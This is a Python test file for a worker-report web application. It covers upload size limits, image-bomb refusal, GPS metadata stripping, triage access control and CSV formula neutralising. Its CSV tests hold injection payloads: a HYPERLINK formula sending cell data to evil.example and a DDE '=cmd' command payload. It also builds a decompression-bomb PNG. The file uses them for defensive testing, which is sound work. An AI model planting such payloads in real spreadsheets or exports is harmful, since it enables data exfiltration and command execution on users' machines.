"""Issue 10, findings 5, 6, 9, 10 (operator page), 14, 15 and 18: uploads over the size limit,
the cost of decoding images, metadata in every accepted image format, CSV formulas, bad ids on
the operator page, who may change a report's status, and what triage indicators may hold."""

from __future__ import annotations

import csv
import io
import os
import threading
import time

import pytest
from django.apps import apps
from django.conf import settings
from django.test import Client
from PIL import Image

from tests.web.conftest import keyed_client, make_staff
from tests.web.test_report_line import SECRET_TEXT, _database_text, submit, url
from tipnet.core import csvsafe
from tipnet.web.accounts.keys import keyring_create_for, keyring_unlock
from tipnet.web.accounts.roles import Role
from tipnet.web.report import attachments, ratelimit, services
from tipnet.web.report.attachments import AttachmentError, clean_attachment
from tipnet.web.report.models import Report, ReportFile, ReportMessage

PASSWORD = "correct horse battery 9"



def _upload(data: bytes, name: str) -> io.BytesIO:
    upload = io.BytesIO(data)
    upload.name = name
    return upload


def _too_big() -> bytes:
    """Over FILE_UPLOAD_MAX_MEMORY_SIZE by itself (the request is larger still)."""
    return os.urandom(settings.FILE_UPLOAD_MAX_MEMORY_SIZE + 512 * 1024)


# ------------------------------------------------------------------ 5: a request over the limit


def test_report_over_the_size_limit_is_refused_and_keeps_the_text(operator) -> None:  # type: ignore[no-untyped-def]
    """Before: Django's MemoryFileUploadHandler dropped the files of the oversized request, the
    text went through, and the reporter got a receipt for a report without her evidence."""
    response, receipt = submit(Client(), lang="en", files=_upload(_too_big(), "video.mp4"), keep_files="on")
    page = response.content.decode()
    assert response.status_code == 400 and not receipt
    assert "Your files are too large" in page and "Nothing was sent" in page
    assert SECRET_TEXT in page, "the typed text is shown again"
    assert not Report.objects.exists() and not ReportFile.objects.exists()


def test_follow_up_over_the_size_limit_is_refused_and_keeps_the_text(operator) -> None:  # type: ignore[no-untyped-def]
    _response, receipt = submit(Client(), lang="en")
    ratelimit.reset()
    answer = "The manager moved us to a second dormitory in Ogaki"
    response = Client().post(url("report:follow_up"), {
        "action": "reply", "receipt": receipt, "message": answer, "files": _upload(_too_big(), "video.mp4"),
        "keep_files": "on",
    })
    page = response.content.decode()
    assert response.status_code == 400
    assert "Your files are too large" in page and answer in page
    assert not ReportMessage.objects.exists() and not ReportFile.objects.exists()


def test_a_request_within_the_limit_still_carries_its_files(operator) -> None:  # type: ignore[no-untyped-def]
    """The check refuses only what Django would have dropped."""
    data = os.urandom(attachments.MAX_FILE_BYTES - 1024)
    response, receipt = submit(Client(), lang="en", files=_upload(data, "notes.bin"), keep_files="on")
    assert response.status_code == 200 and receipt
    assert Report.objects.get().files.count() == 1


# ------------------------------------------------------------------ 6: the cost of decoding


def _png(size: tuple[int, int], mode: str = "RGB") -> bytes:
    raw = io.BytesIO()
    Image.new(mode, size, 1 if mode == "1" else (250, 250, 250)).save(raw, format="PNG")
    return raw.getvalue()


def test_the_audits_png_is_refused_before_decoding() -> None:
    """6,300 x 6,300 pixels in 128 KB: refused from the header (it cost 886 MiB before)."""
    data = _png((6300, 6300))
    assert len(data) < 200_000
    with pytest.raises(AttachmentError, match="too large"):
        clean_attachment(data=data, keep_as_given=True)


@pytest.mark.parametrize(("size", "mode"), [((5001, 5000), "RGB"), ((20000, 20000), "1")])
def test_images_over_25_megapixels_are_refused(size, mode) -> None:  # type: ignore[no-untyped-def]
    """Just over the limit; and far over it, where Pillow's own bomb check fires first (that
    one gave a server error before)."""
    with pytest.raises(AttachmentError, match="at most 25 megapixels"):
        clean_attachment(data=_png(size, mode), keep_as_given=True)


def test_a_50_megapixel_phone_jpeg_is_decoded_at_half_size() -> None:
    """The 50 MP mode of phone cameras: JPEG draft mode decodes it at 4,080 x 3,060."""
    raw = io.BytesIO()
    Image.new("RGB", (8160, 6120), (90, 120, 30)).save(raw, format="JPEG", quality=80)
    cleaned = clean_attachment(data=raw.getvalue(), keep_as_given=False)
    assert Image.open(io.BytesIO(cleaned.data)).size == (4080, 3060)


def test_only_one_image_decodes_at_a_time_in_a_process() -> None:
    """While another request's image decodes, the next waits for it."""
    raw = io.BytesIO()
    Image.new("RGB", (64, 48), (1, 2, 3)).save(raw, format="JPEG")
    done: list[str] = []
    assert attachments._decoding.acquire(timeout=5)  # another image decoding now
    try:
        worker = threading.Thread(target=lambda: done.append(clean_attachment(data=raw.getvalue(), keep_as_given=False).kind))
        worker.start()
        time.sleep(0.5)
        assert done == [], "decoded while another image was decoding"
    finally:
        attachments._decoding.release()
    worker.join(timeout=10)
    assert done == ["image"]


# ------------------------------------------------------------------ 15: every accepted image format


def _photo_with_gps(fmt: str) -> bytes:
    exif = Image.Exif()
    exif[0x010F] = "SecretCam Maker"  # Make
    exif[0x8825] = {1: "N", 2: (35.0, 41.0, 22.0), 3: "E", 4: (139.0, 41.0, 30.0)}  # GPSInfo
    raw = io.BytesIO()
    options: dict[str, object] = {"exif": exif.tobytes()}
    if fmt == "WEBP":
        options["xmp"] = b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:Description City="SecretCity"/></x:xmpmeta>'
    Image.new("RGB", (40, 30), (200, 10, 10)).save(raw, format=fmt, **options)
    data = raw.getvalue()
    reopened = Image.open(io.BytesIO(data))
    assert reopened.getexif().get_ifd(0x8825), "the test file carries GPS tags"
    assert b"SecretCam" in data
    return data


@pytest.mark.parametrize(("fmt", "name", "served_type"), [
    ("WEBP", "IMG_0002.webp", "image/jpeg"),
    ("TIFF", "scan.tiff", "image/png"),
    ("PNG", "shot.png", "image/png"),
    ("HEIF", "IMG_0003.heic", "image/jpeg"),
])
def test_photos_kept_as_they_are_still_lose_gps(operator, fmt, name, served_type) -> None:  # type: ignore[no-untyped-def]
    """Before: WebP and TIFF were not 'photos', so with 'keep my other files' ticked they were
    stored byte for byte, GPS and all."""
    data = _photo_with_gps(fmt)
    response, _receipt = submit(Client(), lang="en", files=_upload(data, name), keep_files="on")
    assert response.status_code == 200
    report = Report.objects.get()
    served = keyed_client(operator).get(url("report:file", report.pk, report.files.get().pk))
    assert served["Content-Type"] == served_type
    assert b"SecretCam" not in served.content and b"SecretCity" not in served.content
    image = Image.open(io.BytesIO(served.content))
    assert not image.getexif() and "xmp" not in image.info and "icc_profile" not in image.info
    assert image.size == (40, 30)


def test_an_image_with_several_pages_is_refused_even_if_kept_as_given(operator) -> None:  # type: ignore[no-untyped-def]
    raw = io.BytesIO()
    exif = Image.Exif()
    exif[0x010F] = "SecretCam Maker"
    pages = [Image.new("RGB", (20, 20), colour) for colour in ((255, 0, 0), (0, 255, 0))]
    pages[0].save(raw, format="TIFF", save_all=True, append_images=pages[1:], exif=exif.tobytes())
    response, _receipt = submit(Client(), lang="en", files=_upload(raw.getvalue(), "scan.tiff"), keep_files="on")
    # Refused by name; the report is sent without it, and nothing of the file is stored.
    assert "several pages or frames" in response.content.decode() and "scan.tiff" in response.content.decode()
    assert not ReportFile.objects.exists()


def test_the_form_says_which_photos_are_cleaned(operator) -> None:  # type: ignore[no-untyped-def]
    page = Client().get(url("report:form")).content.decode()
    assert "JPEG, PNG, HEIC, WebP, TIFF, GIF and BMP" in page


# ------------------------------------------------------------------ 14 and 18: triage


@pytest.fixture
def report(operator) -> Report:  # type: ignore[no-untyped-def]
    submit(Client(), lang="en")
    return Report.objects.get()


def test_an_operator_without_the_reports_key_cannot_close_it(organisations, report) -> None:  # type: ignore[no-untyped-def]
    """Sato joined after the report came in: she cannot read it, so she may not close it (and so
    schedule it for deletion)."""
    sato = make_staff("sato", organisations["trustee"], Role.HOTLINE_OPERATOR, PASSWORD)
    keyring_create_for(sato, password=PASSWORD)
    response = keyed_client(sato).post(url("report:report", report.pk), {"action": "triage", "status": "closed",
                                                                        "kind": "labour", "indicators": ""})
    assert response.status_code == 403
    report.refresh_from_db()
    assert (report.status, report.closed_at, report.expires_at) == (Report.Status.NEW, None, None)
    with pytest.raises(services.KeyUnavailable):
        services.report_triage(actor=sato, report=report, status="closed", kind="labour", indicators=[],
                               private_key=keyring_unlock(sato, password=PASSWORD))


def test_an_operator_with_the_key_triages_with_catalogue_ids(operator, report) -> None:  # type: ignore[no-untyped-def]
    response = keyed_client(operator).post(url("report:report", report.pk), {
        "action": "triage", "status": "triaged", "kind": "labour", "indicators": "dr_job_nature, CD_DOC_CONFISCATION",
    })
    assert response.status_code == 302
    report.refresh_from_db()
    assert report.status == "triaged" and report.indicators == ["CD_DOC_CONFISCATION", "DR_JOB_NATURE"]


def test_free_text_indicators_are_refused(operator, report) -> None:  # type: ignore[no-untyped-def]
    """The indicators column is stored in clear: words about the case must never reach it."""
    response = keyed_client(operator).post(url("report:report", report.pk), {
        "action": "triage", "status": "triaged", "kind": "labour", "indicators": "DR_JOB_NATURE, Tanaka hits her",
    })
    assert response.status_code == 400
    assert "Not indicator ids of the screening catalogue" in response.content.decode()
    report.refresh_from_db()
    assert report.status == Report.Status.NEW and report.indicators == []
    assert "Tanaka hits" not in _database_text()
    with pytest.raises(services.ReportError, match="DR_MADE_UP"):
        services.report_triage(actor=operator, report=report, status="triaged", kind="labour", indicators=["DR_MADE_UP"],
                               private_key=keyring_unlock(operator, password=PASSWORD))


def test_the_data_migration_keeps_free_text_apart_from_the_ids(report) -> None:  # type: ignore[no-untyped-def]
    """Issue 11: 0003 used to drop the words for good; 0004 maps ids and keeps the rest visible
    (tests/web/test_staff_path.py covers the page)."""
    import importlib

    migration = importlib.import_module("tipnet.web.report.migrations.0004_triage_indicators_map_free_text")
    Report.objects.filter(pk=report.pk).update(indicators=["DR_JOB_NATURE", "Tanaka hits her", 5, "CD_DOC_CONFISCATION"])
    migration.map_indicators(apps, None)
    report.refresh_from_db()
    assert report.indicators == ["CD_DOC_CONFISCATION", "DR_JOB_NATURE"]
    assert report.indicators_unmapped == ["Tanaka hits her", "5"]


# ------------------------------------------------------------------ 10: bad ids on the operator page


@pytest.mark.parametrize("data", [
    {"action": "forwarding", "forwarding_id": "abc", "state": "sent"},
    {"action": "forwarding", "forwarding_id": "１", "state": "sent"},
    {"action": "forwarding", "forwarding_id": "9" * 40, "state": "sent"},
    {"action": "grant", "user_id": "abc"},
    {"action": "grant", "user_id": "1e3"},
])
def test_a_non_numeric_id_on_the_operator_page_is_a_400(operator, report, data) -> None:  # type: ignore[no-untyped-def]
    response = keyed_client(operator).post(url("report:report", report.pk), data)
    assert response.status_code == 400
    assert 'class="error"' in response.content.decode()


# ------------------------------------------------------------------ 9: CSV formulas


TRICKY = ["=HYPERLINK(\"https://evil.example/?\"&A1)", "+81 52 000 0000", "-1", "@SUM(A1)", "\tx", "\rx", "＝1+1",
          "'=already quoted", "''+two quotes", "'just a quote", "plain", "", "don't", "a=b"]


def test_neutralise_and_restore_round_trip() -> None:
    for value in TRICKY:
        cell = csvsafe.neutralise(value)
        assert not cell.startswith(csvsafe.FORMULA_START), value
        assert csvsafe.restore(cell) == value, value
    assert csvsafe.neutralise("=1+1") == "'=1+1" and csvsafe.neutralise("plain") == "plain"


def test_directory_export_is_formula_free_and_imports_back(organisations) -> None:  # type: ignore[no-untyped-def]
    from tests.web.test_directory_staff import make_service
    from tipnet.web.directory.csv_io import COLUMNS, parse_csv, services_to_csv

    service = make_service(organisations["ngo"], name='=HYPERLINK("https://evil.example/?"&A1,"Shelter")',
                           phone="+81 52 000 0000", texts={"en": {"hours": "-", "description": "@SUM(1,2)"}, "ja": {"description": "'=quoted"}})
    text = services_to_csv([service])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == COLUMNS
    for cell in rows[1]:
        assert not cell.startswith(csvsafe.FORMULA_START), cell
    assert rows[1][COLUMNS.index("name")] == "'" + service.name
    parsed = parse_csv(text)[0]
    assert (parsed.pk, parsed.name, parsed.phone) == (service.pk, service.name, service.phone)
    assert parsed.texts == {"en": {"hours": "-", "description": "@SUM(1,2)"}, "ja": {"description": "'=quoted"}}


def test_estimate_result_csv_has_no_formulas() -> None:
    from tipnet.web.research.models import EstimateRun
    from tipnet.web.research.services import estimate_result_csv

    run = EstimateRun(nboot=10, seed=1, result={"observed": 10, "estimate": 12.5, "model": ["=cmd|' /C calc'!A0"]})
    for row in csv.reader(io.StringIO(estimate_result_csv(run))):
        assert not any(cell.startswith(csvsafe.FORMULA_START) for cell in row), row
